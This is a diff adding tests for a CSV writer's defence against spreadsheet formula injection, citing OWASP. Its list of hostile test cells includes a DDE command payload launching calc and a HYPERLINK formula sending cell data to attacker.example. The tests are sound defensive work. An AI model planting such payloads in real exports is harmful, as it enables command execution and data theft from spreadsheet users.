@@ -1,7 +1,8 @@
 import { Readable } from 'node:stream';
 import should from 'should';
-import { CsvError, CsvParser, csvField, csvLine, csvRecords, parseCsv, recordToObject, writeCsv } from '../../../nodes/lib/format/csv';
+import { CsvError, CsvParser, csvField, csvLine, csvRecords, parseCsv, recordToObject, spreadsheetText, writeCsv } from '../../../nodes/lib/format/csv';
 import { readCsv, toCsv } from '../../sandbox/csv';
+import { formulaCells, spreadsheetCells } from '../../support/spreadsheet';
 
 describe('csv', function () {
   describe('writing', function () {
@@ -12,6 +13,11 @@ describe('csv', function () {
       should(csvField('line one\nline two')).equal('"line one\nline two"');
       should(csvField('carriage\rreturn')).equal('"carriage\rreturn"');
       should(csvField('')).equal('');
+    });
+
+    it('quotes a field holding a semicolon or a tab, the separators other readers split on', function () {
+      should(csvField('Carrer Major 1;2')).equal('"Carrer Major 1;2"');
+      should(csvField('a\tb')).equal('"a\tb"');
     });
 
     it('ends every line with CRLF and writes the header first', function () {
@@ -93,6 +99,65 @@ describe('csv', function () {
     it('turns a record into an object keyed by the header', function () {
       should(recordToObject(['address', 'id'], ['x', '7', 'extra'])).eql({ address: 'x', id: '7' });
       should(recordToObject(['address', 'id'], ['x'])).eql({ address: 'x', id: '' });
+    });
+  });
+
+  describe('cells a spreadsheet shows as text (OWASP, CSV Injection; issue 27 point 6)', function () {
+    /** Cells a spreadsheet would evaluate, read with `,` or with `;` as the separator. */
+    const HOSTILE = [
+      '=1+1',
+      '+1+2',
+      "-3+cmd|' /C calc'!A0",
+      '@SUM(1+1)',
+      '\t=1+1',
+      '\r=1+1',
+      '\n=1+1',
+      '\r\n=1+1',
+      'Carrer Major 1;=HYPERLINK("http://attacker.example/?"&A1,"click")',
+      'Carrer Major 1;"=1+1',
+      'Carrer Major 1;""=1+1',
+      'a;;-2+3',
+      'line one\n@SUM(1)',
+      'line one\r+1+2',
+      'tab\t=1+1',
+      '=1+2";=1+2',
+      '=1+2\'" ;,=1+2',
+    ];
+    /** A file as the bulk node writes it: a number first (the row's index), the cell, a number after. */
+    const fileOf = (cells: readonly string[]) => cells.map((cell, i) => csvLine([String(i), cell, '-33.8688'].map(spreadsheetText))).join('');
+
+    it("puts a ' before a cell starting with any of OWASP's characters: =, +, -, @, tab, CR and LF", function () {
+      for (const cell of ['=1+1', '+1+2', '-3+3', '@SUM(1)', '\t1', '\r1', '\n1']) should(spreadsheetText(cell)).equal(`'${cell}`, JSON.stringify(cell));
+    });
+
+    it('leaves plain numbers, negative ones included, and other text as they are', function () {
+      for (const cell of ['-12.5', '+1', '1e-5', '-.5', '12 Main Street', 'Straße 5, Köln', "'quoted", 'a - b', '']) {
+        should(spreadsheetText(cell)).equal(cell, JSON.stringify(cell));
+      }
+    });
+
+    it("puts a ' where a ; tab or line break inside a cell is followed by a formula character", function () {
+      should(spreadsheetText('Carrer Major 1;=HYPERLINK(x)')).equal("Carrer Major 1;'=HYPERLINK(x)");
+      should(spreadsheetText('\r=1+1')).equal("'\r'=1+1");
+      should(spreadsheetText('a;"=1')).equal('a;\'"=1');
+      should(spreadsheetText('Flat 2\nChurch Lane')).equal('Flat 2\nChurch Lane');
+      should(spreadsheetText('12 Main Street, -3')).equal('12 Main Street, -3');
+    });
+
+    it('no cell is a formula to a reader splitting on "," nor to one splitting on ";"', function () {
+      const text = fileOf(HOSTILE);
+      for (const separator of [',', ';'] as const) {
+        should(formulaCells(spreadsheetCells(text, separator))).eql([], `separator ${separator}`);
+      }
+      // The unprotected file: both readers would run formulas (the check above can fail).
+      const raw = HOSTILE.map((cell, i) => csvLine([String(i), cell, '-33.8688'])).join('');
+      for (const separator of [',', ';'] as const) should(formulaCells(spreadsheetCells(raw, separator))).not.be.empty();
+    });
+
+    it('a "," reader gets every cell back whole, with its \' marks, and the numbers as numbers', function () {
+      const rows = readCsv(fileOf(HOSTILE));
+      should(rows.map((row) => row[1].replace(/'/g, ''))).eql(HOSTILE.map((cell) => cell.replace(/'/g, '')));
+      should(rows.map((row) => row[2])).eql(HOSTILE.map(() => '-33.8688'));
     });
   });
 
